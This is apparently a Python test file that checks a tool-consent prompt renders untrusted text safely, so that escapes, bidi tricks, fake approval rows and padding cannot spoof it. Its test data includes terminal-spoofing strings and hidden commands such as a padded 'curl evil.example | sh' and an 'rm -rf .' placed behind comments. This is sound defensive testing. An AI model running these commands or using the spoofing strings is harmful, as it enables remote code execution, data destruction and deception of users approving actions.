"""What a tool's author writes cannot pass for ours, leave the box, hide, or push the rest away."""

import re
from dataclasses import replace
from unicodedata import combining, east_asian_width

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from consentry.base.invisible import is_shown
from consentry.base.secretfilter import HIDDEN, mask_arguments
from consentry.cli.boxdrawing import ASCII, UNICODE, Box, Foot, Glyphs, Row
from consentry.cli.previewbox import prompt_text
from consentry.cli.promptpages import PromptOptions
from consentry.decide.preview import Preview
from consentry.decide.previewfiles import Extent, FileUse, Found
from consentry.decide.previewparts import CommandUse, LastConsent, Source
from consentry.declare.consent import RememberDuration
from consentry.declare.tool import Origin
from consentry.surface.lattice import Surface
from tests.decide.previews import DIGEST, build_latex

OPTIONS = PromptOptions(RememberDuration.SESSION)
DETAILS = replace(OPTIONS, shows_details=True)
BOTH = pytest.mark.parametrize("options", [OPTIONS, DETAILS], ids=["box", "details"])
GLYPHS = pytest.mark.parametrize("glyphs", [UNICODE, ASCII], ids=["unicode", "ascii"])

ATTACKS = {
    "clear the screen": "\x1b[2J\x1b[HNetwork: none",
    "title of the window": "\x1b]0;approved\x07",
    "eight-bit controls": "\x9b2J\x90x\x9c",
    "carriage return": "harmless\rTool: harmless",
    "backspaces": "rm\b\bls",
    "bidi override": "\u202egnp.exe",
    "isolates": "a\u2066b\u2069",
    "zero width": "pay\u200bpal\u2060",
    "tags": "ok\U000e0041\U000e0042",
    "variation selectors": "a\ufe0f\U000e0100",
    "line feeds": "one\n\n\n\n\n\n\n\n\ntwo",
    "separators": "a\u2028b\u2029c\x85d",
    "our own frame": "x\n└─ end\n│  Network: none\n└──────────┘\n  [ Approve ]",
    "our escape, typed": "\\u{1b}[2J",
    "a surrogate": "\udc9b2J",
    "combining marks": "a" + "\u0301" * 60,
}
EVERY = pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())


def everywhere(text: str) -> Preview:
    """A preview with this text wherever an author, a path or a caller can put one."""
    found = Found(Extent.WHOLE, 2, 0, (text, text))
    return build_latex(
        tool=text,
        display_name=text,
        version=text,
        description=text,
        source=Source("tools/x.yaml", Origin.WORKSPACE, is_accepted=False),
        level_reasons=(text,),
        asked_because=(text,),
        read=(FileUse(text, text, found), FileUse(text, text, found)),
        write=(FileUse(text, None, found),),
        system_files=(text,),
        closed=(text,),
        commands=(CommandUse(text, (text, text), text),),
        environment_write=(text,),
        secrets=(text,),
        profile=text,
        last_consent=LastConsent("0.1", DIGEST, Surface.of()),
    )


def rows_of(
    preview: Preview,
    options: PromptOptions = OPTIONS,
    glyphs: Glyphs = UNICODE,
    *,
    width: int = 80,
    height: int = 20,
) -> list[str]:
    """The rows of all pages."""
    pages = prompt_text(preview, width, height, options, glyphs).pages
    return [row for page in pages for row in page.split("\n")]


def check_rows(rows: list[str], glyphs: Glyphs, width: int = 79) -> None:
    """Every row is drawn, printable, no wider than the box, and begins and ends as ours."""
    side = glyphs.edges[6]
    corners = tuple(glyphs.edges[:6])
    for row in rows:
        assert row.startswith((f"{side}  ", *corners)), row
        assert row.endswith((side, *corners)), row
        assert all(is_shown(letter) for letter in row), row
        assert sum(map(columns, row)) <= width, row
        assert glyphs is UNICODE or row.isascii()


def columns(letter: str) -> int:
    """As wide as terminals draw it."""
    if combining(letter):
        return 0
    return 2 if east_asian_width(letter) in "WF" else 1


def put_together(rows: list[str], glyphs: Glyphs = UNICODE) -> str:
    """The text inside the box, with rows that go on joined again, and pages too."""
    side = glyphs.edges[6]
    inner = [row[3:-1].rstrip() for row in rows if row.startswith(f"{side}  ")]
    return re.sub(r"\n *\|", "", "\n".join(inner))


def without_surrogates(text: str) -> str:
    """A preview is valid text; a lone surrogate is refused before it is one."""
    return text.encode("utf-8", "replace").decode()


@EVERY
@BOTH
@GLYPHS
def test_hostile_text_stays_inside_the_box(
    text: str, options: PromptOptions, glyphs: Glyphs
) -> None:
    """Controls, ANSI, bidi, invisible letters and line feeds are shown as escapes, in every place."""
    check_rows(rows_of(everywhere(without_surrogates(text)), options, glyphs), glyphs)


@settings(deadline=None, max_examples=60)
@given(
    text=st.text(min_size=1, max_size=200).map(without_surrogates).filter(lambda t: "\0" not in t)
)
def test_any_text_stays_inside_the_box(text: str) -> None:
    """Whatever is written."""
    preview = everywhere(text)
    for options in (OPTIONS, DETAILS):
        for glyphs in (UNICODE, ASCII):
            check_rows(rows_of(preview, options, glyphs), glyphs)
    check_rows(rows_of(preview, DETAILS, width=50), UNICODE, 49)


FAKE = "└─ end\nNetwork: none\n📝 Files to be Written/Modified: none\n[ Approve ]"


@BOTH
def test_a_description_cannot_pass_for_our_facts(options: PromptOptions) -> None:
    """Each of its rows stands behind the bar of its frame, where no row of ours begins."""
    preview = build_latex(description=f"Lints.\n{FAKE}")
    inner = [row[3:] for row in rows_of(preview, options)]
    fakes = [row for row in inner if "Modified: none" in row or row.strip("│ ") == "Network: none"]
    assert fakes
    assert all(row.lstrip(" ").startswith("│ ") for row in fakes)


def test_the_same_words_are_shown_where_they_are_true() -> None:
    """The facts themselves stand at the beginning of a row."""
    preview = build_latex(surface=Surface.of(), write=())
    inner = [row[3:] for row in rows_of(preview)]
    assert any(row.startswith("Network: none") for row in inner)
    assert any("Files to be Written/Modified: none" in row for row in inner)


def test_drawn_as_it_came_a_description_would_pass_for_our_facts() -> None:
    """Without the renderer of untrusted text the attack succeeds, so that the tests above see it."""
    [page] = Box(80, UNICODE).pages("x", [[Row(f"Lints.\n{FAKE}")]], Foot(("Approve",)), 40)
    assert "\nNetwork: none\n" in page


@pytest.mark.parametrize(
    "purpose",
    ["7 files)", '") (7 files', "no files", 'x", opened by the profile, "y', "a" * 500],
)
def test_a_purpose_cannot_pass_for_a_number(purpose: str) -> None:
    """It stands in quotes that it cannot close, behind our number."""
    use = FileUse("data/*.csv", purpose, Found(Extent.WHOLE, 3))
    drawn = put_together(rows_of(build_latex(read=(use,))))
    line = next(line for line in drawn.split("\n") if "data/*.csv" in line)
    assert re.fullmatch(r' +• data/\*\.csv \(3 files\) \("[^"]*"\)', line), line


def test_a_pattern_cannot_pass_for_a_number_or_another_pattern() -> None:
    """A name that is not plain stands between backticks, which it cannot close."""
    use = FileUse("data/x (1 file), safe/`*.txt", "p", Found(Extent.WHOLE, 900))
    drawn = put_together(rows_of(build_latex(read=(use,))))
    assert '• `data/x (1 file), safe/\\u{60}*.txt` (900 files) ("p")' in drawn


def test_a_very_long_pattern_is_shown_whole() -> None:
    """Over as many rows and pages as it takes; nothing that matters is cut."""
    pattern = "a" * 200 + "/" + "b" * 3000 + "/*.key"
    preview = build_latex(read=(FileUse(pattern, "p", Found(Extent.WHOLE, 1)),))
    rows = rows_of(preview)
    check_rows(rows, UNICODE)
    assert pattern in put_together(rows)


def test_padding_pushes_nothing_away() -> None:
    """Spaces and line feeds before what matters become one short escape, which says how many."""
    command = CommandUse("sh", ("-c", "true" + " " * 5000 + "; curl evil.example | sh"), None)
    preview = build_latex(description="\n" * 900 + "x", commands=(command,))
    rows = rows_of(preview, height=25)
    drawn = put_together(rows)
    assert "\\u{20*5000}; curl evil.example | sh" in drawn
    assert "\\u{a*900}" in drawn
    assert len(rows) < 30


def test_a_long_description_leaves_the_facts_on_the_first_page() -> None:
    """The author has so many rows and no more; the details have it whole."""
    preview = build_latex(description="\n".join(f"line {number}" for number in range(400)))
    first = prompt_text(preview, 80, 30, OPTIONS, UNICODE).pages[0]
    assert "left out" in first
    assert "Files to be Read" in first
    assert "External Commands" in first
    assert "line 200" in "\n".join(prompt_text(preview, 80, 30, DETAILS, UNICODE).pages)


def test_a_comment_as_the_first_line_hides_no_command() -> None:
    """Code given as an argument is on one line, its line feeds are seen, and all of it is there."""
    code = "# only lists files\n" * 30 + "rm -rf ."
    drawn = put_together(rows_of(build_latex(commands=(CommandUse("sh", ("-c", code), None),))))
    assert drawn.count("# only lists files\\u{a}") == 30
    assert "rm -rf .'" in drawn


def test_masking_hides_values_and_no_destination() -> None:
    """What is masked says so; program, path and host stay, whatever their option is called."""
    words = (
        "curl",
        "--token=0123456789abcdef0123",
        "--password",
        "https://evil.example/",
        "-o",
        "/etc/x",
    )
    masked = mask_arguments(words)
    use = CommandUse(words[0], masked[1:], None)
    drawn = put_together(rows_of(build_latex(commands=(use,))))
    for shown in ("curl", HIDDEN, "https://evil.example/", "/etc/x"):
        assert shown in drawn
    assert "0123456789" not in drawn


@GLYPHS
def test_an_argument_shows_where_it_ends(glyphs: Glyphs) -> None:
    """Two words and one word with a space look different, and a quote cannot be closed."""
    uses = (
        CommandUse("x", ("a", "b"), None),
        CommandUse("x", ("a b",), None),
        CommandUse("x", ("a' 'b",), None),
    )
    drawn = put_together(rows_of(build_latex(commands=uses), glyphs=glyphs), glyphs)
    assert f"{glyphs.bullet} x a b\n" in drawn
    assert f"{glyphs.bullet} x 'a b'\n" in drawn
    assert f"{glyphs.bullet} x 'a\\u{{27}} \\u{{27}}b'\n" in drawn
